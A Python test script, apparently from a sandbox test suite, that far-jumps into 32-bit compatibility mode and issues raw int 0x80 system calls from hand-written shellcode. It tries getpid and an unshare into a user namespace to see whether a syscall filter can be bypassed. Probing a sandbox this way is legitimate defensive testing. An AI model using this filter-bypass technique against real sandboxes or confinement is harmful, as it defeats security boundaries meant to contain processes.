# Goes over to the 32-bit mode of the processor by a far jump, and calls the kernel from there.
# control: outside if it can
import ctypes
import os
import struct

from attack import attempt
from machine import GETPID, UNSHARE, function, low_memory, only_on_x86

only_on_x86()


def call(number, argument):
    """In a process that ends with the answer, for the way back is as long as the way there."""
    there = low_memory(8192)
    # mov eax, number; mov ebx, argument; xor ecx, ecx; int 0x80
    # test eax, eax; setns bl; movzx ebx, bl; mov eax, 1; int 0x80
    code = b"\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", argument)
    code += bytes.fromhex("31c9 cd80 85c0 0f99c3 0fb6db b801000000 cd80")
    ctypes.memmove(there, code, len(code))
    # mov esp, top of the memory; push 0x23; push there; retfq
    jump = b"\xbc" + struct.pack("<I", there + 8192 - 64) + b"\x6a\x23\x68" + struct.pack("<I", there) + b"\x48\xcb"
    child = os.fork()
    if child == 0:
        function(jump)
        os._exit(3)
    _, status = os.waitpid(child, 0)
    if os.WIFSIGNALED(status):
        # Ended by the filter, as this process says of itself then.
        os.kill(os.getpid(), os.WTERMSIG(status))
    return os.WEXITSTATUS(status) == 1 and "answered"


attempt(("a harmless call", lambda: call(GETPID, 0)), ("a user namespace", lambda: call(UNSHARE, 0x10000000)))
